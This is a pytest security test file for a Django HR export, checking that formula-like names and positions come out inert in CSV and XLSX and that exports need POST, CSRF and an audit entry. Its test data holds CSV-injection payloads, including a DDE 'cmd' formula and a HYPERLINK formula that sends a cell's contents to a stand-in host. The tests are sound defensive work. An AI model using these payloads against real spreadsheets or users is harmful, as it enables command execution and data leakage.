"""HR exports (CSV and XLSX): text that a spreadsheet would run as a formula comes out inert.

Names, emails and position names are typed by people; any of them may begin with = + - @,
a tab, a carriage return or a line feed, their full-width or small forms, or whitespace or an
invisible character in front of any of those (OWASP's CSV injection guidance). In the export
such a cell begins with an apostrophe instead, every CSV field is quoted, and the XLSX holds no
formula at all. An export writes an audit entry, so it is a POST: a GET never starts one.
"""

import csv
import io
import re
import unicodedata
import zipfile
from urllib.parse import urlencode

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from lms.hiring.models import Position
from lms.people.emails import normalise_email
from lms.people.models import AuditEntry
from lms.people.roles import Role
from tests.factories import CredentialTypeFactory, UserFactory
from tests.security.helpers import PROPERTY

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
# Leading characters a spreadsheet may skip or read as a trigger: whitespace of every kind,
# invisible format characters, and the full-width, small and minus-sign forms of = + - @.
SNEAKY_STARTS = (
    " ",
    "  ",
    "\n",
    "\u00a0",  # no-break space
    "\u3000",  # ideographic space
    "\u2028",  # line separator
    "\u200b",  # zero-width space
    "\ufeff",  # byte order mark
    "\u200e",  # left-to-right mark
    "\uff1d",  # full-width equals
    "\uff0b",  # full-width plus
    "\uff0d",  # full-width hyphen-minus
    "\uff20",  # full-width at
    "\ufe66",  # small equals
    "\ufe62",  # small plus
    "\ufe63",  # small hyphen-minus
    "\ufe6b",  # small at
    "\u2212",  # minus sign
    "\x01=",  # a control character (dropped) hiding a trigger
)
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    " =1+1",
    "\n=1+1",
    " \t=1+1",
    '\uff1dHYPERLINK("http://evil.example")',
    "\uff0b1+1",
    "\uff0d2+3",
    "\uff20SUM(1+1)",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
]
# What PostgreSQL can store in a text column: anything but NUL (and lone surrogates).
stored_text = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"))


def export(client, export_format: str, **filters) -> bytes:
    """Press the page's Export button: a POST, with the filters in the query string."""
    url = f"{reverse('hiring:hr_matrix')}?{urlencode(filters)}"
    response = client.post(url, {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def xlsx_rows(content: bytes) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return [
        ["" if cell is None else str(cell) for cell in row]
        for row in sheet.iter_rows(values_only=True)
    ]


def assert_no_formula(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"formula in {name}"
                assert 't="f"' not in xml and "t='f'" not in xml


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not starts_like_formula(cell), repr(cell)


def starts_like_formula(cell: str) -> bool:
    """Independent of the code under test: what OWASP lists, its look-alikes, and any of
    them behind leading whitespace or invisible characters."""
    stripped = cell.lstrip("".join(SNEAKY_STARTS[:9]) + "\t\r\n")
    leading_blank = stripped != cell
    first = unicodedata.normalize("NFKC", stripped[:1])
    return leading_blank or first in {"=", "+", "-", "@", "\u2212"}


def row_of(rows: list[list[str]], email: str) -> list[str]:
    """The row whose email cell ends with `email` (an XML reader reads a CR as a line feed)."""
    matches = [row for row in rows if len(row) > 1 and row[1].endswith(email)]
    assert len(matches) == 1, (email, rows)
    return matches[0]


@pytest.fixture
def hr_client(client, hr):
    # The matrix lists the people in the roles its positions apply to (and credential holders).
    position = Position(name="Peer supporter", slug="peer-supporter")
    position.applies_to_groups = [Group.objects.get(name=Role.PEER)]
    position.save()
    client.force_login(hr)
    return client


@pytest.fixture
def hostile_positions(db):
    """Positions (the export's column headers) and a credential type named like formulas."""
    credential_type = CredentialTypeFactory(name='=HYPERLINK("http://evil.example")')
    positions = []
    for number, name in enumerate(["=1+1 Peer specialist", "@Doula", "-Corrections peer"]):
        position = Position.objects.create(name=name, slug=f"hostile-{number}")
        position.required_credential_types.add(credential_type)
        positions.append(position)
    return positions


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_like_names_emails_and_positions_come_out_inert(
    hr_client, hostile_positions, attack
):
    person = UserFactory(roles=[Role.PEER], certificate_name=attack)
    # An account's address is stored normalised (lms.people.emails): leading whitespace goes and
    # full-width forms become ASCII, so the email cell starts with the NFKC form of a trigger.
    trigger = normalise_email(attack[0] + "x")[:1]
    email_attacked = trigger in "=+-@" and trigger != "x"
    if email_attacked:
        person.email = trigger + person.email
        person.save(update_fields=["email"])

    csv_content, xlsx_content = export(hr_client, "csv"), export(hr_client, "xlsx")

    assert_no_formula(xlsx_content)
    for rows in (csv_rows(csv_content), xlsx_rows(xlsx_content)):
        assert_inert(rows)
        header = rows[0]
        assert {f"'{position.name}" for position in hostile_positions} <= set(header)
        row = row_of(rows, person.email[1:] if email_attacked else person.email)
        assert row[1].startswith("'") or not email_attacked
        assert row[0].startswith("'")
        assert row[0][1:].replace("\n", "\r") == attack.replace("\n", "\r")


@PROPERTY
@given(trigger=st.sampled_from(TRIGGERS), rest=stored_text)
def test_any_name_beginning_with_a_formula_trigger_is_neutralised(hr_client, trigger, rest):
    name = trigger + rest
    person = UserFactory(roles=[Role.PEER], certificate_name=name[:200])

    csv_content, xlsx_content = export(hr_client, "csv"), export(hr_client, "xlsx")

    assert_no_formula(xlsx_content)
    csv_table, xlsx_table = csv_rows(csv_content), xlsx_rows(xlsx_content)
    assert_inert(csv_table)
    assert_inert(xlsx_table)
    # Control characters (which XML cannot hold) are dropped, in both formats alike.
    shown = ILLEGAL_CHARACTERS_RE.sub("", person.certificate_name)
    assert row_of(csv_table, person.email)[0] == f"'{shown}"
    assert row_of(xlsx_table, person.email)[0].startswith("'")


@PROPERTY
@given(name=stored_text)
def test_any_name_at_all_exports_without_an_error(hr_client, name):
    """Control characters (which XML 1.0 cannot hold) included: the export never fails."""
    person = UserFactory(roles=[Role.PEER], certificate_name=name[:200])

    for export_format in ("csv", "xlsx"):
        content = export(hr_client, export_format)
        rows = csv_rows(content) if export_format == "csv" else xlsx_rows(content)
        assert_inert(rows)
        row_of(rows, person.email)


def test_the_matrix_page_shows_hostile_names_as_text(hr_client, hostile_positions):
    UserFactory(roles=[Role.PEER], certificate_name='<script>alert("x")</script>=1+1')

    page = hr_client.get(reverse("hiring:hr_matrix")).content.decode()

    assert '<script>alert("x")</script>' not in page
    assert "&lt;script&gt;" in page


def test_every_export_is_audited(hr_client, hr):
    before = AuditEntry.objects.filter(action="hr.export", actor=hr).count()

    export(hr_client, "csv")
    export(hr_client, "xlsx")

    assert AuditEntry.objects.filter(action="hr.export", actor=hr).count() == before + 2


@pytest.mark.parametrize("start", SNEAKY_STARTS)
def test_spreadsheet_safe_prefixes_every_sneaky_start(start):
    from lms.core.spreadsheets import spreadsheet_safe

    for rest in ("=1+1", "cmd|' /C calc'!A0", "", "Smith"):
        value = start + rest
        safe = spreadsheet_safe(value)
        assert safe.startswith("'"), repr(value)
        assert safe[1:] == ILLEGAL_CHARACTERS_RE.sub("", value)


@pytest.mark.parametrize("value", ["Robin Example", "robin@example.org", "Met", "0", "'quoted", ""])
def test_spreadsheet_safe_leaves_plain_text_alone(value):
    from lms.core.spreadsheets import spreadsheet_safe

    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("start", SNEAKY_STARTS)
def test_sneaky_starts_come_out_inert_in_both_formats(hr_client, start):
    name = f'{start}=HYPERLINK("http://evil.example")'
    person = UserFactory(roles=[Role.PEER], certificate_name=name)

    csv_content, xlsx_content = export(hr_client, "csv"), export(hr_client, "xlsx")

    assert_no_formula(xlsx_content)
    for rows in (csv_rows(csv_content), xlsx_rows(xlsx_content)):
        assert_inert(rows)
        assert row_of(rows, person.email)[0].startswith("'")


def test_every_csv_field_is_quoted(hr_client):
    """A separator inside a cell (a comma, or the semicolon some locales split on) never
    starts a new cell, whichever separator the spreadsheet assumes."""
    UserFactory(roles=[Role.PEER], certificate_name="Robin;=1+1")

    content = export(hr_client, "csv").decode()

    for line in content.splitlines():
        if line:
            assert line.startswith('"') and line.endswith('"'), line
    assert '"Robin;=1+1"' in content


def test_an_export_by_get_is_refused_and_writes_no_audit_entry(hr_client, hr):
    before = AuditEntry.objects.filter(action="hr.export").count()
    url = reverse("hiring:hr_matrix")

    for export_format in ("csv", "xlsx"):
        response = hr_client.get(url, {"export": export_format})
        assert response.status_code == 405
        assert response["Allow"] == "POST"
        assert not response.streaming
    assert hr_client.head(url, {"export": "csv"}).status_code == 405

    assert AuditEntry.objects.filter(action="hr.export").count() == before


def test_the_export_buttons_post_with_the_filters_and_a_csrf_token(hr_client):
    page = hr_client.get(reverse("hiring:hr_matrix"), {"status": "missing"}).content.decode()

    assert '<form method="post" action="?status=missing"' in page
    assert 'name="csrfmiddlewaretoken"' in page
    assert '<button type="submit" name="export" value="csv"' in page
    assert "export=csv" not in page


def test_an_export_needs_the_csrf_token(hr):
    from tests.clients import SignedInClient

    client = SignedInClient(enforce_csrf_checks=True)
    client.force_login(hr)
    before = AuditEntry.objects.filter(action="hr.export").count()

    response = client.post(reverse("hiring:hr_matrix"), {"export": "csv"})

    assert response.status_code == 403
    assert AuditEntry.objects.filter(action="hr.export").count() == before


def test_an_unknown_export_format_is_a_400(hr_client):
    response = hr_client.post(reverse("hiring:hr_matrix"), {"export": "pdf"})
    assert response.status_code == 400
